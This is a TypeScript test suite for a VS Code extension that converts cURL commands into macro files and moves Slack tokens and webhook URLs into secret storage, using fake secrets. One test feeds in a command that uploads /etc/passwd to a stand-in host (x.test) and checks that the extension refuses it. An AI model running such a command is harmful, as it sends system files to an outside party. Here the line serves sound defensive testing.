import * as assert from 'node:assert';
import * as vscode from 'vscode';
import type { NewFromCentercodeResult } from '../../src/extension/create/newFromCentercode';
import type { NewFromCurlResult } from '../../src/extension/create/newFromCurl';
import { closeAllEditors, waitFor, workspacePath } from './util';

const TOKEN = 'xoxb-4242-HOSTTESTSECRETvalue';
const COMMAND = `curl -X POST -H 'Authorization: Bearer ${TOKEN}' \\\n  -H 'Content-type: application/json' \\\n  --data '{"channel":"C1","text":"hello"}' \\\n  https://slack.com/api/chat.postMessage\n`;

const problemsOf = (uri: vscode.Uri) =>
  vscode.languages
    .getDiagnostics(uri)
    .filter(d => d.severity <= vscode.DiagnosticSeverity.Warning)
    .map(d => `${d.source ?? '-'} ${String(d.code ?? '')} ${d.message}`);

suite('New Macro from cURL… (issue 19)', () => {
  // What these tests create is removed again, so the suites after them see the workspace as it was.
  const created: vscode.Uri[] = [];
  suiteTeardown(async () => {
    await closeAllEditors();
    for (const uri of created) await Promise.resolve(vscode.workspace.fs.delete(uri)).catch(() => undefined);
    await vscode.commands.executeCommand('ccmacro.deleteSecret', 'SLACK_API_TOKEN');
  });

  test('New Macro from cURL: the clipboard command, the questions answered with Enter, the secret stored with consent', async function () {
    this.timeout(120000);
    await vscode.env.clipboard.writeText(COMMAND);
    await vscode.commands.executeCommand('ccmacro.deleteSecret', 'SLACK_API_TOKEN');
    let done = false;
    const running = Promise.resolve(vscode.commands.executeCommand<NewFromCurlResult>('ccmacro.newFromCurl')).finally(
      () => {
        done = true;
      },
    );
    // Each question in turn is answered with its default: the clipboard's command, the suggested name, and the
    // secret's suggested name (which is the consent to store it).
    const answered = await waitFor(
      async () => {
        if (done) return true;
        await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
        return false;
      },
      { timeout: 60000, interval: 300, message: 'the questions were not all answered' },
    );
    assert.ok(answered);
    const result = await running;
    assert.ok(result, 'a macro was created');
    const uri = vscode.Uri.parse(result.uri);
    created.push(uri);
    assert.ok(uri.path.endsWith('/webhook-to-slack-com.ccmacro.json'), uri.toString());
    assert.deepStrictEqual(result.stored, ['SLACK_API_TOKEN']);
    const text = new TextDecoder().decode(await vscode.workspace.fs.readFile(uri));
    assert.ok(!text.includes(TOKEN), 'the token is not in the file');
    const macro = JSON.parse(text.replace(/^\/\/.*$/gm, ''));
    assert.strictEqual(macro.request.headers.Authorization, 'Bearer ${secret:SLACK_API_TOKEN}');
    assert.strictEqual(
      vscode.window.activeTextEditor?.document.uri.toString(),
      uri.toString(),
      'the new macro is open',
    );
    const names = await vscode.commands.executeCommand<string[]>('ccmacro.listSecretNames');
    assert.ok(names.includes('SLACK_API_TOKEN'), `stored: ${names.join(', ')}`);
    // ccmacro's checks find nothing wrong with it (no error, no warning: no secret/literal either). To know the checks
    // ran, break it first (GET with a body) and see that flagged, then mend it.
    const editor = vscode.window.activeTextEditor!;
    const doc = editor.document;
    const at = doc.getText().indexOf('"POST"');
    await editor.edit(b => b.replace(new vscode.Range(doc.positionAt(at), doc.positionAt(at + 6)), '"GET"'));
    await waitFor(() => problemsOf(uri).some(p => p.includes('request/body-with-get')), {
      timeout: 30000,
      message: () => problemsOf(uri).join('\n'),
    });
    const get = doc.getText().indexOf('"GET"');
    await editor.edit(b => b.replace(new vscode.Range(doc.positionAt(get), doc.positionAt(get + 5)), '"POST"'));
    await waitFor(() => problemsOf(uri).length === 0, { timeout: 30000, message: () => problemsOf(uri).join('\n') });
  });

  test('New Macro from cURL with arguments: a Slack webhook becomes a slack macro; a bad command is refused and nothing is created', async () => {
    const target = workspacePath('created/from-curl.ccmacro.json');
    const result = await vscode.commands.executeCommand<NewFromCurlResult>('ccmacro.newFromCurl', {
      command: `curl -H 'Content-Type: application/json' -d '{"text":"hi"}' https://hooks.slack.com/services/T1/B2/HOSTSECRET123`,
      name: 'From cURL',
      target: target.toString(),
      secrets: 'skip',
    });
    assert.strictEqual(result?.uri, target.toString());
    created.push(target);
    assert.deepStrictEqual(result.secrets, ['SLACK_WEBHOOK_URL']);
    assert.deepStrictEqual(result.stored, []);
    const text = new TextDecoder().decode(await vscode.workspace.fs.readFile(target));
    const macro = JSON.parse(text.replace(/^\/\/.*$/gm, ''));
    assert.strictEqual(macro.target, 'slack');
    assert.strictEqual(macro.request.url, '${secret:SLACK_WEBHOOK_URL}');
    assert.ok(!text.includes('HOSTSECRET123'));

    const bad = workspacePath('created/bad-curl.ccmacro.json');
    const refused = await vscode.commands.executeCommand('ccmacro.newFromCurl', {
      command: `curl -F 'file=@/etc/passwd' https://x.test`,
      target: bad.toString(),
    });
    assert.strictEqual(refused, undefined);
    await assert.rejects(Promise.resolve(vscode.workspace.fs.stat(bad)));
  });

  test('New Macro from Centercode Body: the Slack URL typed is stored with consent, so the first send does not ask', async () => {
    await vscode.commands.executeCommand('ccmacro.deleteSecret', 'SLACK_WEBHOOK_URL');
    const target = workspacePath('created/from-centercode-stored.ccmacro.json');
    const result = await vscode.commands.executeCommand<NewFromCentercodeResult>('ccmacro.newFromCentercode', {
      body: '{"text": "New: ((Title))"}',
      url: 'https://hooks.slack.com/services/T1/B2/TYPEDSECRET',
      method: 'POST',
      name: 'From Centercode, stored',
      target: target.toString(),
      // The answer "Move to secret storage" takes: the suggested name confirmed.
      secrets: 'store',
    });
    assert.strictEqual(result?.uri, target.toString());
    created.push(target);
    assert.deepStrictEqual(result.stored, ['SLACK_WEBHOOK_URL']);
    const text = new TextDecoder().decode(await vscode.workspace.fs.readFile(target));
    assert.strictEqual(JSON.parse(text).request.url, '${secret:SLACK_WEBHOOK_URL}');
    assert.ok(!text.includes('TYPEDSECRET'));
    const names = await vscode.commands.executeCommand<string[]>('ccmacro.listSecretNames');
    assert.ok(names.includes('SLACK_WEBHOOK_URL'), `stored: ${names.join(', ')}`);
    await vscode.commands.executeCommand('ccmacro.deleteSecret', 'SLACK_WEBHOOK_URL');
  });
});
